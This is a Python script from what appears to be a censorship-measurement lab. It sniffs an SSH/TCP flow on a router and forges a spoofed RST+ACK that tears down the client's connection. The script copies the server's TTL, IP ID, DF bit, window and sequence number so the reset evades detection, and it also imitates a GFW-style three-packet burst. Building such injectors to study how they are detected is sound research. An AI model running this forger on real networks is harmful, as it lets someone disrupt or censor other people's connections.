#!/usr/bin/python3
"""Header-copying on-path RST injector for the sshrst lab (runs inside a router namespace).

Usage: copyinject.py IFACE_CLI IFACE_SRV SERVER_IP SERVER_PORT CLIENT_IP CLIENT_PORT MODE

A forger that copies what TTL and IP ID rules look at (the kind of box CenTrace
describes, which copies TTLs). It watches the server->client packets arriving on
IFACE_SRV and remembers the server's last IP ID, DF bit, raw window field, SND.NXT
and TTL; the TTL the server's packets will carry at the client is that TTL minus
one (this router decrements it when forwarding, while a packet this router makes
itself leaves undecremented). It watches the client->server packets on IFACE_CLI and,
on the trigger, sends ONE RST+ACK to the client claiming the server:

    TTL   = the server's TTL as it arrives at the client
    IP ID = the server's last IP ID + 1 (what the server's next packet would carry)
    DF    = copied from the server's packets
    seq   = the server's SND.NXT (exact: the client accepts it, RFC 5961)
    ack   = the trigger segment's seq + length (it acknowledges the trigger)
    window= the server's last advertised window field

MODE:
    upload:N  trigger = the first client data segment once the client sent >= N payload bytes
    kexinit   trigger = the client segment carrying its SSH KEXINIT (message 20)
    marks:N   like upload:N, but a cruder injector that leaves the marks seen in the wild instead of
              copying: THREE RST+ACKs built from the trigger, all with the trigger's IP ID + 1, the
              trigger's window, reserved bit 0x02 set, TTL 64 and no DF, at seq offsets +0, +1460 and
              +4380 from the server's SND.NXT (the GFW "type 2" burst)

Sniffing uses AF_PACKET sockets (no scapy: a forger has to keep up with the flow).
Prints "ready" once both sockets are bound, "injected ..." after sending, then exits.
"""
import select
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
PACKET_OUTGOING = 4


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def parse(frame):
    """Ethernet + IPv4 + TCP -> dict, or None."""
    if len(frame) < 14 + 20 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP:
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    if ip[0] >> 4 != 4 or ip[9] != 6 or len(ip) < ihl + 20:
        return None
    total = struct.unpack("!H", ip[2:4])[0]
    ipid = struct.unpack("!H", ip[4:6])[0]
    df = bool(struct.unpack("!H", ip[6:8])[0] & 0x4000)
    tcp = ip[ihl:total]
    sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
    doff = (tcp[12] >> 4) * 4
    flags = tcp[13]
    window = struct.unpack("!H", tcp[14:16])[0]
    return dict(src=socket.inet_ntoa(ip[12:16]), dst=socket.inet_ntoa(ip[16:20]), ttl=ip[8], id=ipid, df=df,
                sport=sport, dport=dport, seq=seq, ack=ack, flags=flags, window=window,
                payload=tcp[doff:])


def build_rst(src, dst, sport, dport, seq, ack, ttl, ipid, df, window, reserved=0):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 << 4) | reserved, 0x14, window, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ipid, 0x4000 if df else 0, ttl, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def is_kexinit(payload):
    """The payload carries an SSH binary packet whose message number is 20 (KEXINIT)."""
    starts = [0]
    if payload.startswith(b"SSH-") and b"\r\n" in payload:
        starts = [payload.index(b"\r\n") + 2]
    elif payload.startswith(b"SSH-"):
        return False
    for s in starts:
        if len(payload) >= s + 6 and payload[s + 5] == 20:
            return True
    return False


def main():
    cli_if, srv_if, sip, sport, cip, cport, mode = sys.argv[1:8]
    sport, cport = int(sport), int(cport)
    need = int(mode.split(":")[1]) if mode.startswith(("upload:", "marks:")) else None
    marks = mode.startswith("marks:")
    socks = {}
    for name in (cli_if, srv_if):
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        s.bind((name, 0))
        s.setblocking(False)
        socks[s] = name
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    server = None  # what the server's packets look like, as last seen
    client_bytes = 0
    print("ready", flush=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        readable, _, _ = select.select(list(socks), [], [], 0.5)
        # The server's side first: its latest packet must be known before a trigger is answered.
        for s in sorted(readable, key=lambda k: socks[k] != srv_if):
            while True:
                try:
                    frame, addr = s.recvfrom(65535)
                except BlockingIOError:
                    break
                if addr[2] == PACKET_OUTGOING:
                    continue
                p = parse(frame)
                if p is None:
                    continue
                if socks[s] == srv_if and p["src"] == sip and p["dst"] == cip and p["sport"] == sport and p["dport"] == cport:
                    if p["flags"] & 0x04:
                        continue
                    end = (p["seq"] + len(p["payload"]) + (1 if p["flags"] & 0x03 else 0)) & 0xFFFFFFFF
                    nxt = end if server is None or ((end - server["nxt"]) & 0xFFFFFFFF) < 0x80000000 else server["nxt"]
                    server = dict(ttl=p["ttl"] - 1, id=p["id"], df=p["df"], window=p["window"], nxt=nxt)
                elif socks[s] == cli_if and p["src"] == cip and p["dst"] == sip and p["sport"] == cport and p["dport"] == sport:
                    n = len(p["payload"])
                    if n == 0 or server is None:
                        continue
                    client_bytes += n
                    fire = (need is not None and client_bytes >= need) or (need is None and is_kexinit(p["payload"]))
                    if not fire:
                        continue
                    ack = (p["seq"] + n) & 0xFFFFFFFF
                    if marks:
                        ipid = (p["id"] + 1) & 0xFFFF
                        for off in (0, 1460, 4380):
                            pkt = build_rst(sip, cip, sport, cport, (server["nxt"] + off) & 0xFFFFFFFF, ack, 64, ipid,
                                            False, p["window"], reserved=0x02)
                            out.sendto(pkt, (cip, 0))
                        print(f"injected 3 RST+ACK {sip}:{sport} > {cip}:{cport} seq={server['nxt']}+0/1460/4380 ack={ack} "
                              f"ttl=64 id={ipid} (trigger id {p['id']} + 1) df=0 win={p['window']} (the trigger's) reserved=0x02 "
                              f"answering the client segment seq={p['seq']} len={n}", flush=True)
                        return 0
                    ipid = (server["id"] + 1) & 0xFFFF
                    pkt = build_rst(sip, cip, sport, cport, server["nxt"], ack, server["ttl"], ipid, server["df"], server["window"])
                    out.sendto(pkt, (cip, 0))
                    print(f"injected RST+ACK {sip}:{sport} > {cip}:{cport} seq={server['nxt']} ack={ack} ttl={server['ttl']} "
                          f"id={ipid} df={int(server['df'])} win={server['window']} answering the client segment "
                          f"seq={p['seq']} len={n} id={p['id']}", flush=True)
                    return 0
    print("no trigger seen", flush=True)
    return 1


if __name__ == "__main__":
    sys.exit(main())
